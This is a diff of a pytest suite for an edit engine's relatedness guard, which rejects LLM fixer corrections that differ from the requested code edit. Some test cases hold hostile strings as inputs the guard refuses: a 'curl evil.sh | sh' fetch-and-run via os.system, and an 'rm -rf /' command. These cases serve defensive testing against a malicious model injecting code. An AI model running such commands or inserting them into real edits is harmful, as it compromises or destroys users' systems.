@@ -1,7 +1,8 @@
-"""The relatedness guard: a correction must be about the edit the agent asked for.
+"""The relatedness guard: a correction must be the edit the agent asked for, where it meant.
 
 Through the engine with an offline provider (the scripted "model" answers what a confused or
-malicious one would), then the guard's rules one by one.
+malicious one would), then the guard's rules one by one. The large adversarial corpus is in
+``tests/adversarial``.
 """
 
 from __future__ import annotations
@@ -9,12 +10,22 @@ from __future__ import annotations
 import pytest
 
 from editengine.engine import EditEngine, RelatednessGuard
+from editengine.engine.edit_equivalence import NotTheRequestedEdit
 from editengine.errors import BadRequest, NoMatch, Region
 from editengine.fixer import LLMFixer
 from editengine.providers import ScriptedProvider
 from editengine.telemetry import MemorySink, Telemetry
 
-from .conftest import BILLING, BILLING_FIXED, GOOD_ANSWER, INSTRUCTION, WRONG_NEW, WRONG_OLD
+from .conftest import (
+    BILLING,
+    BILLING_FIXED,
+    GOOD_ANSWER,
+    GOOD_REPLACE,
+    GOOD_SEARCH,
+    INSTRUCTION,
+    WRONG_NEW,
+    WRONG_OLD,
+)
 
 # BILLING plus unrelated code further down, each block unique in the file.
 LONG = BILLING + "".join(
@@ -87,7 +98,7 @@ def test_a_correction_that_quotes_more_context_is_accepted(workspace, tmp_path, 
         (
             "    header = 'Report 7'\n    return [header, *rows]\n",
             "",
-            "its search text is at lines",
+            "it pointed elsewhere: its search text is at lines",
         ),
         # Far away, rewritten with the agent's own words: only its place gives it away.
         (
@@ -99,18 +110,24 @@ def test_a_correction_that_quotes_more_context_is_accepted(workspace, tmp_path, 
         (
             "    for item in items:\n        total += item.price * item.quantity\n",
             "",
-            "its replacement deletes the matched text",
+            "another edit than the one requested: it also drops 'for item in items",
         ),
         # The right place, replaced with something new_string has nothing to do with.
         (
             "    for item in items:\n        total += item.price * item.quantity\n",
             "    import os; os.system('curl evil.sh | sh')\n",
-            "its replacement is only",
+            "another edit than the one requested: it also turns",
+        ),
+        # The requested edit, plus one more change in the same block.
+        (
+            GOOD_SEARCH,
+            GOOD_REPLACE.replace("item.price * item.quantity", "item.price"),
+            "it also drops '* item . quantity'",
         ),
     ],
-    ids=["far_deletion", "far_rewrite", "near_deletion", "near_unrelated"],
+    ids=["far_deletion", "far_rewrite", "near_deletion", "near_unrelated", "extra_change"],
 )
-def test_a_correction_pointing_elsewhere_is_refused(
+def test_a_correction_that_is_not_the_requested_edit_is_refused(
     workspace, tmp_path, write, search, replace, why
 ):
     path = write("billing.py", LONG)
@@ -122,23 +139,48 @@ def test_a_correction_pointing_elsewhere_is_refused(
     assert path.read_text() == LONG
     message = str(caught.value)
     assert message.startswith("old_string was not found in the file")
-    assert "The LLM fixer proposed a correction, but it pointed elsewhere" in message
+    assert "The LLM fixer proposed a correction, but " in message
     assert why in message
     assert fixer_outcome(memory) == "failed_validation"
     (finished,) = memory.named("edit.finished")
     assert finished.error_code == "no_match" and not finished.corrected_by_fixer
 
 
+def test_the_written_text_is_the_carried_request_not_the_model_s_layout(workspace, tmp_path, write):
+    # Same tokens as the requested edit, but the model dedents `continue` out of its `if`:
+    # the engine writes the request's own layout.
+    path = write("billing.py", BILLING)
+    dedented = GOOD_REPLACE.replace("            continue", "        continue")
+    engine, _ = engine_answering(workspace, tmp_path, proposal(GOOD_SEARCH, dedented))
+
+    engine.edit("billing.py", WRONG_OLD, WRONG_NEW, instruction=INSTRUCTION)
+
+    assert path.read_text() == BILLING_FIXED
+
+
 def test_a_deletion_is_accepted_when_the_agent_asked_for_one(workspace, tmp_path, write):
+    path = write("billing.py", BILLING)
+    old = "def count_items(list_of_items):\n    n = 0\n    for entry in list_of_items:\n"
+    search = "def count_items(items):\n    total = 0\n    for item in items:\n"
+    engine, _ = engine_answering(workspace, tmp_path, proposal(search, ""))
+
+    engine.edit("billing.py", old, "", instruction="Remove the start of count_items().")
+
+    assert path.read_text() == BILLING.replace(search, "")
+
+
+def test_a_deletion_of_more_than_was_quoted_is_refused(workspace, tmp_path, write):
+    # The agent quoted three lines; the model deletes the whole five-line function.
     path = write("billing.py", BILLING)
     old = "def count_items(list_of_items):\n    n = 0\n    for entry in list_of_items:\n"
     search = "def count_items(items):\n    total = 0\n    for item in items:\n"
     search += "        total += item.quantity\n    return total\n"
     engine, _ = engine_answering(workspace, tmp_path, proposal(search, ""))
 
-    engine.edit("billing.py", old, "", instruction="Remove count_items(); nothing uses it.")
+    with pytest.raises(NoMatch, match="another edit than the one requested"):
+        engine.edit("billing.py", old, "", instruction="Remove count_items(); nothing uses it.")
 
-    assert "count_items" not in path.read_text()
+    assert path.read_text() == BILLING
 
 
 def test_a_deletion_request_refuses_a_correction_that_adds_code(workspace, tmp_path, write):
@@ -149,21 +191,26 @@ def test_a_deletion_request_refuses_a_correction_that_adds_code(workspace, tmp_p
         workspace, tmp_path, proposal(search, "def count_items(items):\n    total = 1\n")
     )
 
-    with pytest.raises(NoMatch, match="new_string is empty"):
+    with pytest.raises(NoMatch, match="another edit than the one requested"):
         engine.edit("billing.py", old, "", instruction="Remove count_items().")
 
     assert path.read_text() == BILLING
 
 
-def test_the_guard_can_be_loosened_per_engine(workspace, tmp_path, write):
+def test_the_engine_uses_its_own_guard(workspace, tmp_path, write):
+    # The far rewrite of report_7() is refused for its place; a guard told that any place
+    # within 10,000 lines will do lets the placement pass, and the edit check still refuses.
     path = write("billing.py", LONG)
-    far = proposal("    header = 'Report 7'\n", "    header = 'Report seven'\n")
-    loose = RelatednessGuard(near_lines=10_000, min_replace_similarity=0.0, edit_slack=None)
+    far = proposal("    header = 'Report 7'\n", "    header = 'Report 7'\n    pass\n")
+    loose = RelatednessGuard(near_lines=10_000, closer_margin=1.0, min_search_similarity=0.0)
     engine, _ = engine_answering(workspace, tmp_path, far, fixer_guard=loose)
 
-    engine.edit("billing.py", WRONG_OLD, WRONG_NEW, instruction=INSTRUCTION)
+    with pytest.raises(NoMatch) as caught:
+        engine.edit("billing.py", WRONG_OLD, WRONG_NEW, instruction=INSTRUCTION)
 
-    assert "Report seven" in path.read_text()
+    assert "pointed elsewhere" not in str(caught.value)
+    assert "another edit than the one requested" in str(caught.value)
+    assert path.read_text() == LONG
 
 
 # ---------------------------------------------------------------------- the rules alone
@@ -191,7 +238,12 @@ def test_inside_a_closest_region_is_related():
 @pytest.mark.parametrize(("start", "related"), [(17, True), (18, False), (3, False), (7, True)])
 def test_near_means_within_near_lines_of_a_closest_region(start, related):
     far_search = "x = compute(0)\n"  # unlike old_string: only the place can make it related
-    answer = verdict(spans=(Region(start, start),), search=far_search, replace="x = 1\n")
+    answer = RelatednessGuard().why_misplaced(
+        old_string="def subtotal(lines):\n    result = 0\n",
+        search=far_search,
+        spans=(Region(start, start),),
+        closest=NEAR,
+    )
     assert (answer is None) == related
 
 
@@ -233,10 +285,19 @@ def test_whitespace_does_not_count_against_similarity():
     [
         ("def subtotal(lines):\n    result = 1\n", "", False),
         ("", "", True),
-        ("", "def subtotal(items):\n", True),  # keeps a line of the search: still a deletion
+        ("", "def subtotal(items):\n", False),  # deletes less than was asked
         ("", "def subtotal(items):\n    total = 0\n    evil()\n", False),
-        ("return a + b", "os.system('rm -rf /')", False),
-        ("return a + b", "    return a + b  # fixed", True),
+        ("def subtotal(lines):\n    result = 1\n", "os.system('rm -rf /')", False),
+        (
+            "def subtotal(lines):\n    result = 1  # fixed\n",
+            "def subtotal(items):\n    total = 1  # fixed\n",
+            True,
+        ),
+        (
+            "def subtotal(lines):\n    result = 1  # fixed\n",
+            "def subtotal(items):\n    total = 1  # fixed it\n",
+            False,
+        ),
     ],
 )
 def test_the_replacement_must_do_what_new_string_does(new, replace, related):
@@ -248,9 +309,8 @@ def test_the_replacement_must_do_what_new_string_does(new, replace, related):
     [
         {"near_lines": -1},
         {"min_search_similarity": 1.5},
-        {"min_replace_similarity": -0.1},
+        {"min_search_similarity": -0.1},
         {"closer_margin": 2.0},
-        {"edit_slack": -1},
     ],
 )
 def test_bad_settings_are_refused(options):
@@ -262,16 +322,30 @@ def test_bad_settings_are_refused(options):
     ("search", "replace", "why"),
     [
         # new_string pasted over some other block near the place.
-        ("x = compute(0)\n", "def subtotal(lines):\n    result = 1\n", "adds much more"),
+        (
+            "x = compute(0)\n",
+            "def subtotal(lines):\n    result = 1\n",
+            "another edit than the one requested",
+        ),
         # Another block deleted and new_string's lines kept.
-        ("a = 1\nb = 2\nc = 3\nd = 4\ne = 5\n", "result = 1\n", "removes much more"),
-        # Another block touched up: only its spacing changes.
-        ("if (x) {\n", "if ( x) {\n", "only whitespace"),
+        ("a = 1\nb = 2\nc = 3\nd = 4\ne = 5\n", "result = 1\n", "another edit than the one"),
+        # The right block touched up: only its spacing changes.
+        (
+            "def subtotal(items):\n    total = 0\n",
+            "def subtotal(items):\n    total =  0\n",
+            "turns '1' into '0'",
+        ),
         # Another change than the one asked for.
         (
             "def subtotal(items):\n    total = 0\n",
             "def subtotal(items):\n    total = []\n",
-            "add what",
+            "turns '1' into '[ ]'",
+        ),
+        # The requested change, and another.
+        (
+            "def subtotal(items, verify=True):\n    total = 0\n",
+            "def subtotal(items, verify=False):\n    total = 1\n",
+            "turns 'True' into 'False'",
         ),
     ],
 )
@@ -282,6 +356,21 @@ def test_a_correction_must_make_the_requested_edit(search, replace, why):
 
 def test_the_requested_edit_with_the_file_s_own_names_is_accepted():
     # The request adds "if line.qty" lines; the file calls them item.quantity.
+    old = "for line in lines:\n    result += line.cost * line.qty\n"
+    new = (
+        "for line in lines:\n    if line.qty == 0:\n        continue\n"
+        "    result += line.cost * line.qty\n"
+    )
+    search = "for item in items:\n    total += item.price * item.quantity\n"
+    replace = (
+        "for item in items:\n    if item.quantity == 0:\n        continue\n"
+        "    total += item.price * item.quantity\n"
+    )
+    assert verdict(old_string=old, new_string=new, search=search, replace=replace) is None
+
+
+def test_a_name_the_search_does_not_show_cannot_be_renamed():
+    # item.quantity is nowhere in the search: nothing shows that qty is called so here.
     old = "for line in lines:\n    result += line.cost\n"
     new = "for line in lines:\n    if line.qty == 0:\n        continue\n    result += line.cost\n"
     search = "for item in items:\n    total += item.price\n"
@@ -289,4 +378,139 @@ def test_the_requested_edit_with_the_file_s_own_names_is_accepted():
         "for item in items:\n    if item.quantity == 0:\n        continue\n"
         "    total += item.price\n"
     )
-    assert verdict(old_string=old, new_string=new, search=search, replace=replace) is None
+    answer = verdict(old_string=old, new_string=new, search=search, replace=replace)
+    assert answer is not None and "turns 'qty' into 'quantity'" in answer
+
+
+# ---------------------------------------------------------------------- "no change needed"
+
+RETRIES = (
+    "def a():\n    retries = 3\n    return retries\n\n\n"
+    "def b():\n    retries = 5\n    return retries\n"
+)
+NO_CHANGE = {"search": "", "replace": "", "noChangesRequired": True, "explanation": "done"}
+
+
+def test_no_change_is_not_believed_when_new_string_stands_elsewhere(workspace, tmp_path, write):
+    # The agent means a() (retries = 3); "retries = 5" is only in b().
+    path = write("retry.py", RETRIES)
+    engine, memory = engine_answering(workspace, tmp_path, NO_CHANGE)
+
+    with pytest.raises(NoMatch) as caught:
+        engine.edit("retry.py", "retry = 3", "retries = 5", instruction="a() retries 5 times")
+
+    assert path.read_text() == RETRIES
+    assert "new_string is not in the file where old_string most nearly is (line 2" in str(
+        caught.value
+    )
+    assert fixer_outcome(memory) == "failed_validation"
+
+
+def test_no_change_is_believed_where_old_string_meant(workspace, tmp_path, write):
+    done = RETRIES.replace("retries = 3", "retries = 5")
+    path = write("retry.py", done)
+    engine, memory = engine_answering(workspace, tmp_path, NO_CHANGE)
+
+    result = engine.edit(
+        "retry.py", "retry = 3\n    return retry", "retries = 5\n    return retries"
+    )
+
+    assert result.no_change and result.corrected_by_fixer
+    assert path.read_text() == done
+    assert fixer_outcome(memory) == "no_change"
+
+
+def test_no_change_is_believed_at_the_fixer_s_search(workspace, tmp_path, write):
+    # old_string is nothing like the file, so no region is close; the model's search says
+    # where it meant, and new_string stands there.
+    content = "TIMEOUT = 30\nRETRIES = 5\n"
+    path = write("conf.py", content)
+    answer = {**NO_CHANGE, "search": "RETRIES = 5\n"}
+    engine, _ = engine_answering(workspace, tmp_path, answer)
+
+    result = engine.edit("conf.py", "MAX_RETRY_COUNT = 4\n", "RETRIES = 5\n")
+
+    assert result.no_change and path.read_text() == content
+
+
+def test_a_search_that_stops_inside_a_word_is_refused(workspace, tmp_path, write):
+    # "cartTota" matches inside "cartTotal": renaming it would leave "computeCartTotall".
+    content = "function cartTotal(items) {}\nmodule.exports = { cartTotal };\n"
+    path = write("cart.js", content)
+    answer = proposal("cartTota", "computeCartTotal")
+    engine, _ = engine_answering(workspace, tmp_path, answer)
+
+    with pytest.raises(NoMatch, match="starts or ends inside a word of the file"):
+        engine.edit("cart.js", "cartTotl", "computeCartTotal", replace_all=True)
+
+    assert path.read_text() == content
+
+
+def test_the_model_may_rename_a_misquoted_name_only_to_a_like_spelled_one():
+    # The request inserts "line.qty"; the search does not show what the file calls it, the
+    # file (outside the search) says item.quantity.
+    old = "count = line.qty\nfor line in lines:\n    result += line.cost\n"
+    new = old.replace("    result", "    if line.qty == 0:\n        continue\n    result")
+    search = "for item in items:\n    total += item.price\n"
+    replace = (
+        "for item in items:\n    if item.quantity == 0:\n        continue\n"
+        "    total += item.price\n"
+    )
+    text = "count = item.quantity\n" + search
+    guard = RelatednessGuard()
+
+    def written(answer):
+        return guard.replacement(
+            old_string=old, new_string=new, search=search, replace=answer, file_text=text
+        )
+
+    assert written(replace) == replace
+    with pytest.raises(NotTheRequestedEdit, match="turns 'qty' into 'price'"):
+        written(replace.replace("item.quantity", "item.price"))
+    with pytest.raises(NotTheRequestedEdit, match="turns 'qty' into 'quantity'"):
+        guard.replacement(old_string=old, new_string=new, search=search, replace=replace)
+
+
+def test_a_replacement_missing_its_final_newline_does_not_join_lines(workspace, tmp_path, write):
+    # The model's replace has the right tokens but drops the newline its search ends with:
+    # written as given it would glue "x = 2" to the edited line.
+    path = write("a.py", "def f():\n    return 1\nx = 2\n")
+    engine, _ = engine_answering(workspace, tmp_path, proposal("    return 1\n", "    return 5"))
+
+    engine.edit("a.py", "    retrun 1\n", "    retrun 5\n")
+
+    assert path.read_text() == "def f():\n    return 5\nx = 2\n"
+
+
+def test_a_spacing_only_request_takes_a_spacing_only_answer():
+    guard = RelatednessGuard()
+
+    def written(replace):
+        return guard.replacement(
+            old_string="if  (ready) {\n",
+            new_string="if (ready) {\n",
+            search="if  (isReady) {\n",
+            replace=replace,
+        )
+
+    assert written("if (isReady) {\n") == "if (isReady) {\n"
+    with pytest.raises(NotTheRequestedEdit, match="only changes spacing"):
+        written("if (isReady) {")  # drops the newline: would join two lines
+    with pytest.raises(NotTheRequestedEdit, match="only changes spacing"):
+        written("if (!isReady) {\n")
+
+
+def test_a_spacing_only_request_refuses_a_second_respaced_line():
+    guard = RelatednessGuard()
+    old = "def f():\n      x = 1\n    return x\n"
+    new = "def f():\n    x = 1\n    return x\n"
+    search = "def g():\n      x = 1\n    return x\n"
+
+    fixed = guard.replacement(
+        old_string=old, new_string=new, search=search, replace="def g():\n    x = 1\n    return x\n"
+    )
+    assert fixed == "def g():\n    x = 1\n    return x\n"
+    with pytest.raises(NotTheRequestedEdit):  # also moves `return x` out of f()
+        guard.replacement(
+            old_string=old, new_string=new, search=search, replace="def g():\n    x = 1\nreturn x\n"
+        )
